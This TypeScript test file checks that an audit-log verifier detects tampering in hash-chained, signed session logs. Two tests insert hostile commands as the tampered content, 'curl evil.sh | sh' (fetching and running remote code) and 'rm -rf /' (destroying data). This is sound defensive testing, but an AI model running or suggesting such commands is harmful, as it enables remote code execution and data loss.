import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { auditPaths, openAuditStore } from '../../../src/audit/index.js';
import type { AuditStore, VerifyReport } from '../../../src/audit/index.js';
import { readLines, rechain, tempStateDir, writeLines, writeSession } from './helpers.js';

const S = 'sess-tamper';
let state: ReturnType<typeof tempStateDir>;
let store: AuditStore;
let logPath: string;
let cpPath: string;

function edit(fn: (lines: string[]) => string[]): void {
  writeLines(logPath, fn(readLines(logPath)));
}

function problem(report: VerifyReport): { ok: boolean; firstBadSeq: number | null; kinds: string[] } {
  return { ok: report.ok, firstBadSeq: report.firstBadSeq, kinds: report.problems.map((p) => p.kind) };
}

beforeEach(async () => {
  state = tempStateDir();
  store = openAuditStore({ stateDir: state.dir });
  // 50 records, a checkpoint every 10, and a final one at 50.
  await writeSession(store, S, 50, { checkpointEvery: 10 });
  const sessions = auditPaths(state.dir).sessions;
  logPath = `${sessions}/${S}.jsonl`;
  cpPath = `${sessions}/${S}.checkpoints.jsonl`;
});

afterEach(() => {
  store.close();
  state.cleanup();
});

describe('verify detects tampering and names the first bad seq', () => {
  it('an intact log verifies', () => {
    const r = store.verify(S);
    expect(problem(r)).toEqual({ ok: true, firstBadSeq: null, kinds: [] });
    expect(r.records).toBe(50);
    expect(r.checkpoints).toEqual({ found: 6, valid: 6, lastValidSeq: 50, final: true });
    expect(r.warnings).toEqual([]);
  });

  it('audit.detect-edit: an edited record', () => {
    edit((lines) =>
      lines.map((l, i) => (i === 16 ? l.replace('"cwd":"/workspace"', '"cwd":"/elsewhere"') : l)),
    );
    expect(readLines(logPath)[16]).toContain('/elsewhere');
    expect(problem(store.verify(S))).toEqual({ ok: false, firstBadSeq: 17, kinds: ['edited'] });
  });

  it('an edited verdict (deny turned into allow)', () => {
    edit((lines) => lines.map((l, i) => (i === 7 ? l.replace('"verdict":"deny"', '"verdict":"allow"') : l)));
    expect(problem(store.verify(S))).toEqual({ ok: false, firstBadSeq: 8, kinds: ['edited'] });
  });

  it('audit.detect-delete: a deleted record', () => {
    edit((lines) => lines.filter((_, i) => i !== 16));
    expect(problem(store.verify(S))).toEqual({ ok: false, firstBadSeq: 17, kinds: ['deleted'] });
  });

  it('audit.detect-insert: a duplicated record inserted later', () => {
    edit((lines) => [...lines.slice(0, 30), lines[5] ?? '', ...lines.slice(30)]);
    expect(problem(store.verify(S))).toEqual({ ok: false, firstBadSeq: 6, kinds: ['inserted'] });
  });

  it('a forged record inserted with the next seq and a valid-looking hash', () => {
    edit((lines) => {
      const forged = rechain(S, [...lines.slice(0, 20), lines[3] ?? ''])[20] ?? '';
      return [...lines.slice(0, 20), forged, ...lines.slice(20)];
    });
    const r = store.verify(S);
    expect(r.ok).toBe(false);
    expect(r.firstBadSeq).toBe(21);
  });

  it('audit.detect-reorder: two records swapped', () => {
    edit((lines) => {
      const out = [...lines];
      [out[16], out[17]] = [lines[17] ?? '', lines[16] ?? ''];
      return out;
    });
    expect(problem(store.verify(S))).toEqual({ ok: false, firstBadSeq: 17, kinds: ['reordered'] });
  });

  it('a truncated log, against the final checkpoint', () => {
    edit((lines) => lines.slice(0, 45));
    expect(problem(store.verify(S))).toEqual({ ok: false, firstBadSeq: 46, kinds: ['truncated'] });
  });

  it('audit.detect-truncate: a truncated log and checkpoint file, against the checkpoints the index still holds', () => {
    edit((lines) => lines.slice(0, 33));
    writeLines(cpPath, readLines(cpPath).slice(0, 3));
    expect(problem(store.verify(S))).toEqual({ ok: false, firstBadSeq: 34, kinds: ['truncated'] });
  });

  it('audit.detect-rewrite: a rewrite that recomputed the whole chain, against the signed checkpoints (the index pinpoints it)', () => {
    // Something read the log before the rewrite (ls, a query, the dashboard), so the index holds its hashes.
    expect(store.listSessions()[0]?.records).toBe(50);
    edit((lines) =>
      rechain(
        S,
        lines.map((l, i) => (i === 23 ? l.replace('npm test', 'curl evil.sh | sh') : l)),
      ),
    );
    expect(readLines(logPath)[23]).toContain('curl evil.sh');
    const r = store.verify(S);
    expect(r.ok).toBe(false);
    expect(r.firstBadSeq).toBe(24);
    expect(r.problems.map((p) => p.kind)).toEqual(['index-mismatch', 'checkpoint-mismatch']);
  });

  it('a consistent rewrite with the index gone still fails, from the last good checkpoint on', () => {
    store.close();
    rmSync(auditPaths(state.dir).index);
    store = openAuditStore({ stateDir: state.dir });
    edit((lines) =>
      rechain(
        S,
        lines.map((l, i) => (i === 23 ? l.replace('npm test', 'rm -rf /') : l)),
      ),
    );
    expect(readLines(logPath)[23]).toContain('rm -rf /');
    const r = store.verify(S);
    expect(problem(r)).toEqual({ ok: false, firstBadSeq: 21, kinds: ['checkpoint-mismatch'] });
  });

  it('audit.after-final: records appended after the final checkpoint', () => {
    edit((lines) => rechain(S, [...lines, lines[10] ?? '', lines[11] ?? '']));
    const r = store.verify(S);
    expect(r.ok).toBe(false);
    expect(r.firstBadSeq).toBe(51);
    expect(r.problems.map((p) => p.kind)).toContain('after-final');
  });

  it('audit.checkpoint-signature: a forged checkpoint signature', () => {
    const cps = readLines(cpPath);
    const cp = JSON.parse(cps[2] ?? '') as { seq: number; sig: string };
    cp.sig = Buffer.from('forged'.padEnd(64, '!')).toString('base64');
    cps[2] = JSON.stringify(cp);
    writeLines(cpPath, cps);
    const r = store.verify(S);
    expect(r.ok).toBe(false);
    expect(r.problems.map((p) => `${p.kind}@${p.seq}`)).toEqual(['bad-checkpoint@30']);
  });

  it('a record from another session', () => {
    edit((lines) => lines.map((l, i) => (i === 4 ? l.replace(`"session":"${S}"`, '"session":"other"') : l)));
    expect(problem(store.verify(S))).toEqual({ ok: false, firstBadSeq: 5, kinds: ['wrong-session'] });
  });

  it('a malformed line', () => {
    edit((lines) => lines.map((l, i) => (i === 9 ? l.slice(0, 40) : l)));
    expect(problem(store.verify(S))).toEqual({ ok: false, firstBadSeq: 10, kinds: ['malformed'] });
  });

  it('a damaged trailer, even with the record itself intact', () => {
    edit((lines) => lines.map((l, i) => (i === 11 ? l.replace('","hash":"', '","hazh":"') : l)));
    expect(problem(store.verify(S))).toEqual({ ok: false, firstBadSeq: 12, kinds: ['malformed'] });
  });

  it('a deleted log file', () => {
    rmSync(logPath);
    expect(problem(store.verify(S))).toEqual({ ok: false, firstBadSeq: 1, kinds: ['missing'] });
  });

  it('a torn last line (a crash mid-write) is noted, not a failure', () => {
    writeFileSync(logPath, `${readFileSync(logPath, 'utf8')}{"seq":51,"ti`);
    const r = store.verify(S);
    expect(r.ok).toBe(true);
    expect(r.warnings[0]).toMatch(/^the log ends in 13 bytes without a newline/);
  });

  it('a pinned public key of another installation rejects every checkpoint', () => {
    const other = tempStateDir();
    try {
      const otherStore = openAuditStore({ stateDir: other.dir });
      otherStore.publicKey();
      otherStore.close();
      const r = store.verify(S, { publicKeyPath: auditPaths(other.dir).publicKey });
      expect(r.ok).toBe(false);
      expect(new Set(r.problems.map((p) => p.kind))).toEqual(new Set(['bad-checkpoint']));
      expect(r.problems).toHaveLength(6);
    } finally {
      other.cleanup();
    }
  });
});

describe('verifyAll', () => {
  it('reports each session', async () => {
    await writeSession(store, 'sess-two', 5);
    edit((lines) => lines.slice(0, 20));
    const reports = store.verifyAll();
    expect(reports.map((r) => [r.sessionId, r.ok, r.firstBadSeq])).toEqual([
      ['sess-tamper', false, 21],
      ['sess-two', true, null],
    ]);
  });
});

describe('verify without the public key', () => {
  it('audit.fail-closed: fails closed when the key files are gone: checkpoints that cannot be checked are a problem', () => {
    const p = auditPaths(state.dir);
    rmSync(p.publicKey);
    // With the private key still there, its public half is derived and all is well.
    expect(store.verify(S).ok).toBe(true);
    rmSync(p.privateKey);
    edit((lines) => lines.slice(0, 45));
    const r = store.verify(S);
    expect(r.ok).toBe(false);
    expect(r.problems.map((x) => x.kind)).toEqual(['bad-checkpoint']);
    expect(r.problems[0]?.message).toBe(
      '6 checkpoints cannot be checked: there is no public key; pass the pinned one with --public-key.',
    );
  });
});
